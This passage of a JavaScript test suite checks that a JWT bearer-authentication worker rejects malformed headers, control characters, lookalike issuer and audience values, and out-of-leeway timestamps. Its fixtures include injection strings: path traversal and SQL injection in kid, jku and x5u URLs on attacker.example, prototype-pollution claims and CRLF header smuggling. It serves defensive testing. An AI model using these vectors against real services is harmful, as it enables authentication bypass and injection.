  const good = () => forge(HS256, luis());
  const auth = (value) => `Authorization: ${value}`;
  const lines = {
    'a good token after a bad one': ['bad', () => [auth('Bearer x.y.z'), auth(`Bearer ${good()}`)]],
    'a bad token after a good one': ['bad', () => [auth(`Bearer ${good()}`), auth('Bearer x.y.z')]],
    'a good token twice': ['bad', () => [auth(`Bearer ${good()}`), auth(`Bearer ${good()}`)]],
    'a good token in two spellings of the header': [
      'bad',
      () => [`authorization: Bearer ${good()}`, `AUTHORIZATION: Bearer ${good()}`],
    ],
    'a good token after another scheme': ['missing', () => [auth('Basic x'), auth(`Bearer ${good()}`)]],
    'another scheme after a good token': ['bad', () => [auth(`Bearer ${good()}`), auth('Basic x')]],
    'a token in two halves': [
      'bad',
      () => ((text) => [auth(`Bearer ${text.slice(0, 50)}`), auth(text.slice(50))])(good()),
    ],
    'three headers, one empty': ['bad', () => [auth(`Bearer ${good()}`), auth(''), auth('Bearer')]],
    ...Object.fromEntries(
      [1, 2, 7, 8, 0x0b, 0x0c, 0x0e, 0x1b, 0x1f, 0x7f, 0x85, 0xa0, 0xad].flatMap((code) => {
        const hex = `0x${code.toString(16).padStart(2, '0')}`;
        const character = String.fromCharCode(code);
        return [
          [`${hex} behind the token`, ['bad', () => [auth(`Bearer ${good()}${character}`)]]],
          [`${hex} before the token`, ['bad', () => [auth(`Bearer ${character}${good()}`)]]],
          [`${hex} within the token`, ['bad', () => [auth(`Bearer ${good().replace('.', `${character}.`)}`)]]],
          [`${hex} before the scheme`, ['missing', () => [auth(`${character}Bearer ${good()}`)]]],
          [`${hex} in the place of the space`, ['missing', () => [auth(`Bearer${character}${good()}`)]]],
        ];
      }),
    ),
    ...Object.fromEntries(
      [
        ['U+0085', '\u0085'],
        ['U+00A0', '\u00a0'],
        ['U+2003', '\u2003'],
        ['U+2028', '\u2028'],
        ['U+3000', '\u3000'],
        ['U+FEFF', '\ufeff'],
        ['U+200B', '\u200b'],
      ].flatMap(([name, character]) => [
        [`${name} in UTF-8 behind the token`, ['bad', () => [auth(`Bearer ${good()}${latin1(character)}`)]]],
        [`${name} in UTF-8 before the token`, ['bad', () => [auth(`Bearer ${latin1(character)}${good()}`)]]],
        [`${name} in UTF-8 before the scheme`, ['missing', () => [auth(`${latin1(character)}Bearer ${good()}`)]]],
      ]),
    ),
    'bytes that are no UTF-8': ['bad', () => [auth('Bearer \xff\xfe.\xc0\xaf.\xed\xa0\x80')]],
  };
  for (const [name, [kind, of]] of Object.entries(lines)) {
    test(`${name} is refused as usual [A1 A3 A8]`, () => refusedAsUsual({ lines: of() }, kind));
  }

  const unframed = {
    'NUL behind the token': (text) => [auth(`Bearer ${text}\0`)],
    'NUL before the token': (text) => [auth(`Bearer \0${text}`)],
    'NUL within the token': (text) => [auth(`Bearer ${text.replace('.', '\0.')}`)],
    'a bare carriage return': (text) => [auth(`Bearer ${text}\rx`)],
    'a bare line feed and a header of its own': (text) => [
      auth(`Bearer x\nAuthorization: Bearer ${text}`),
      auth('Bearer y'),
    ],
  };
  for (const [name, of] of Object.entries(unframed)) {
    test(`${name} never gets in, whether the platform refuses it or the worker [A3 R7]`, async () => {
      const earlier = await worker.dump();
      for (const { status } of await everywhere({ lines: of(good()) }))
        assert.ok([400, 401].includes(status), String(status));
      assert.equal(await worker.dump(), earlier);
    });
  }
});

test('none of them has changed anything [R7]', async () => assert.equal(await worker.dump(), tables));

describe('the edges of the leeway', () => {
  /** Judges what is minted in one second in the same second: once more where the clock went on in between. */
  async function inOneSecond(attempt, tries = 10) {
    const started = now();
    try {
      await attempt();
    } catch (error) {
      if (now() === started || tries === 0) throw error;
      await inOneSecond(attempt, tries - 1);
    }
  }
  const edges = [
    ['exp', -59, true],
    ['exp', -60, false],
    ['exp', -61, false],
    ['nbf', 60, true],
    ['nbf', 61, false],
    ['nbf', 62, false],
    ['iat', 60, true],
    ['iat', 61, false],
    ['iat', 62, false],
  ];
  for (const [claim, by, isGood] of edges) {
    test(`${claim} ${by < 0 ? `${-by} s ago` : `in ${by} s`} is ${isGood ? 'good' : 'bad'} [A4]`, () =>
      inOneSecond(async () => {
        const bearer = withClaims({ [claim]: now() + by });
        await (isGood ? letsIn(`Bearer ${bearer}`) : refusesToken(bearer));
      }));
  }
  test('all three at their edges are good, and any of them beyond is bad [A4]', () =>
    inOneSecond(async () => {
      await letsIn(`Bearer ${withClaims({ exp: now() - 59, nbf: now() + 60, iat: now() + 60 })}`);
      await refusesToken(withClaims({ exp: now() - 59, nbf: now() + 60, iat: now() + 62 }));
    }));
});

describe('issuer and audience (RFC 8725 2.7, 3.8, 3.9, CVE-2020-26160)', () => {
  const vars = { JWT_ISSUER: 'https://login.example.com', JWT_AUDIENCE: 'perfil' };
  const right = { iss: '"https://login.example.com"', aud: '"perfil"' };
  const wrong = {
    ...named(
      [
        'null',
        '1',
        'true',
        '{}',
        '[]',
        '["https://login.example.com"]',
        '"https://login.example.com/"',
        '"https://login.example.com "',
        '" https://login.example.com"',
        '"https://login.example.com\\u0000"',
        '"http://login.example.com"',
        '"login.example.com"',
        '"https://LOGIN.example.com"',
        '"https://login.example.com:443"',
        '"https://login.example.com.attacker.example"',
        '"https://login.example.com@attacker.example"',
        '"https://attacker.example/https://login.example.com"',
        '"https://login.example.com#x"',
        '"https://login.example.co"',
        '"https://lοgin.example.com"',
        '"https://login%2Eexample.com"',
        '"https://login.example.com,https://attacker.example"',
        '"*"',
        '".*"',
        '"undefined"',
        '"perfil"',
      ],
      (text) => [`iss ${text}`, { ...right, iss: text }],
    ),
    ...named(
      [
        'null',
        '1',
        'true',
        '{}',
        '{"perfil":true}',
        '[]',
        '[[]]',
        '[["perfil"]]',
        '[null]',
        '[""]',
        '["Perfil"]',
        '["perfil "]',
        '["perf","il"]',
        '"Perfil"',
        '"PERFIL"',
        '"perfil/"',
        '"perfil "',
        '" perfil"',
        '"perfil\\u0000"',
        '"perf"',
        '"erfil"',
        '"xperfil"',
        '"perfil,other"',
        '"other perfil"',
        '"perfil other"',
        '"реrfil"',
        '"per\\u200bfil"',
        '"https://perfil"',
        '"*"',
        '".*"',
        '"undefined"',
        '"https://login.example.com"',
      ],
      (text) => [`aud ${text}`, { ...right, aud: text }],
    ),
    'iss and aud exchanged': { iss: right.aud, aud: right.iss },
    'iss left out': { aud: right.aud },
    'aud left out': { iss: right.iss },
    'the audience in azp and client_id': {
      iss: right.iss,
      azp: '"perfil"',
      client_id: '"perfil"',
      audience: '"perfil"',
    },
    'a second iss': { ...right, 'is\\u0073': right.iss },
    'a second aud': { ...right, 'au\\u0064': '"other"' },
    'aud in capitals': { iss: right.iss, AUD: right.aud },
  };
  for (const [name, over] of Object.entries(wrong))
    test(`${name} is refused [A4 A8]`, () => refusesToken(withClaims(over), { vars }));
  for (const [name, over] of Object.entries({
    'both as configured': right,
    'the audience among others': { ...right, aud: '["other","perfil","perfil2"]' },
    'the audience twice': { ...right, aud: '["perfil","perfil"]' },
    'both with escapes': { iss: '"https:\\/\\/login.example.com"', aud: '"\\u0070erfil"' },
  })) {
    test(`${name} is good [A4]`, () => letsIn(`Bearer ${withClaims(over)}`, vars));
  }
  for (const text of ['"https://attacker.example"', '["x"]', '1', 'null', '{}', '""']) {
    test(`where nothing is configured, iss and aud may be ${text} [A4]`, () =>
      letsIn(`Bearer ${withClaims({ iss: text, aud: text })}`));
  }
});

describe('unusual, and still good', () => {
  const good = {
    'put together by hand, which shows that the others fail for what is wrong with them': () => forge(HS256, luis()),
    ...named(Object.entries(OWN), ([kid, by]) => [
      `${by} by a key that is known`,
      () => owned(known[kid], by, { kid }),
    ]),
    ...named(
      [
        ['ec', 'ES256'],
        ['ed', 'EdDSA'],
      ],
      ([kid, by]) => [`${by} by the only key for it, without a kid`, () => owned(known[kid], by)],
    ),
    'RS256 by the other of two keys, with its kid': () => owned(known.rsa2, 'RS256', { kid: 'rsa2' }),
    'ES256 with the larger of the two S: both are signatures (RFC 7518 3.4 asks for neither)': () =>
      owned(
        known.ec,
        'ES256',
        { kid: 'ec' },
        pairOf((r, s) => [r, s > ORDER.ec / 2n ? s : ORDER.ec - s]),
      ),
    'ES256 with the smaller of the two S': () =>
      owned(
        known.ec,
        'ES256',
        { kid: 'ec' },
        pairOf((r, s) => [r, s > ORDER.ec / 2n ? ORDER.ec - s : s]),
      ),
    'ES256 by a public key, with a jwk that nobody uses': () => owned(known.ec, 'ES256', { kid: 'ec', jwk: jwkOf(ec) }),
    'HS256 with the kid of a public key': () => withHeader({ kid: 'rsa' }),
    'header members in another order': () => forge({ typ: 'JWT', alg: 'HS256' }, luis()),
    'white space and line breaks in the JSON, as in RFC 7515 A.1': () =>
      forge('{"typ":"JWT",\r\n "alg":"HS256"}', claims().replaceAll(',', ',\r\n ')),
    'white space around the objects': () => forge(` \t\r\n${JSON.stringify(HS256)}\n`, `\n${claims()}\n `),
    'names and values with escapes': () =>
      forge('{"\\u0061lg":"H\\u0053256","\\u0074yp":"J\\u0057T"}', `{"\\u0073ub":"\\u0036","exp":${now() + 3600}}`),
    'typ Jwt': () => forge({ alg: 'HS256', typ: 'Jwt' }, luis()),
    ...named(['', '../../../../dev/null', "x' UNION SELECT 'y'--", 'ñ😀'], (kid) => [
      `kid ${JSON.stringify(kid)}, which nobody looks up`,
      () => withHeader({ kid }),
    ]),
    'jku and x5u that nobody fetches': () =>
      withHeader({ jku: 'https://attacker.example/jwks.json', x5u: 'https://attacker.example/cert.pem' }),
    'a jwk that nobody uses': () => withHeader({ jwk: jwkOf(ec) }),
    'header members that are not known': () => withHeader({ x: 1, extra: { deep: [[[]]] }, ñ: '😀' }),
    'iat 0': () => withClaims({ iat: '0' }),
    'nbf 0': () => withClaims({ nbf: '0' }),
    'nbf, iat and exp as they often are': () => withClaims({ nbf: now() - 5 }),
    'exp beyond 2^31': () => withClaims({ exp: 2 ** 31 + 1 }),
    'exp beyond 2^32': () => withClaims({ exp: 2 ** 32 + 1 }),
    'exp in milliseconds, as careless issuers write it': () => withClaims({ exp: Date.now() }),
    'exp in the year 9999': () => withClaims({ exp: 253402300799 }),
    'claims named like things of JavaScript': () =>
      forge(
        HS256,
        claims().replace(
          '{',
          '{"__proto__":{"sub":"1"},"constructor":{"prototype":{"sub":"1"}},"hasOwnProperty":1,"toString":null,',
        ),
      ),
    'claims of every kind': () =>
      withClaims({ a: 'null', b: '[1,[2,{"c":[]}]]', d: '{"e":{}}', f: '1.5', g: '-1e-10', h: 'true', '': '""' }),
    'claims beyond ASCII': () => withClaims({ name: '"María Ñandú 😀 \\u0000"', ñ: '"\\ud83d\\ude00"' }),
    'claims 50 levels deep': () => withClaims({ x: '['.repeat(50) + ']'.repeat(50) }),
    'hundreds of claims': () =>
      forge(HS256, { ...luis(), ...Object.fromEntries(Array.from({ length: 300 }, (_, at) => [`c${at}`, at])) }),
    'a signature with - and _': dashed,
    'the largest token that the README allows': () => {
      const rest = 8192 - forge(HS256, claims({ pad: '""' })).length;
      return forge(HS256, claims({ pad: `"${'A'.repeat(Math.floor((rest * 3) / 4))}"` }));
    },
  };
  for (const [name, mint] of Object.entries(good))
    test(`${name} [A2 A3 A4 A5 A6]`, async () => letsIn(`Bearer ${await mint()}`));
  test('one byte more than the README allows is refused [A3]', async () => {
    const text = forge(HS256, claims({ pad: `"${'A'.repeat(6200)}"` }));
    assert.ok(text.length > 8192);
    await refusesToken(text);
  });
  const headers = {
    'several spaces between scheme and token': (text) => `Bearer     ${text}`,
    'white space around the header': (text) => `  Bearer ${text} \t `,
  };
  for (const [name, of] of Object.entries(headers)) test(`${name} [A1]`, () => letsIn(of(forge(HS256, luis()))));
});

describe('afterwards', () => {
  test('every vector was tried, under a name of its own', () =>
    assert.ok(vectors > 800 && sent.size > vectors * 0.95, `${vectors} vectors, ${sent.size} sent`));
  test('the log holds one line for each request, and nothing of any token in it [O2]', async () => {
    const log = worker.lines.map(({ message }) => message);
    for (const message of log) {
      const line = JSON.parse(message);
      if (line.event === 'no_rate_limit') continue;
      assert.deepEqual(
        Object.keys(line).filter(
          (key) =>
            ![
              'request_id',
              'method',
              'route',
              'status',
              'duration_ms',
              'd1_calls',
              'd1_ms',
              'account',
              'code',
            ].includes(key),
        ),
        [],
      );
    }
    // Parts of eight characters and more of every header that was sent, and what they decode to.
    const all = [
      ...new Set(
        log.map((message) => message.replace(/"request_id":"[^"]*"/, '').replace(/"(duration|d1)_ms":\d+/g, '')),
      ),
    ].join('\n');
    const pieces = new Set(
      [...sent].flatMap((header) =>
        header
          .split(/[\s.,:;"=]+/)
          .map((piece) => piece.slice(0, 100))
          .filter((piece) => piece.length >= 8 && !/^Authorization$/i.test(piece)),
      ),
    );
    for (const piece of pieces) assert.equal(all.includes(piece), false, piece);
    for (const word of [SECRET, OTHER, 'HS256', 'luis', 'attacker', 'expired', 'signature', 'eyJ'])
      assert.equal(all.includes(word), false, word);
  });
});
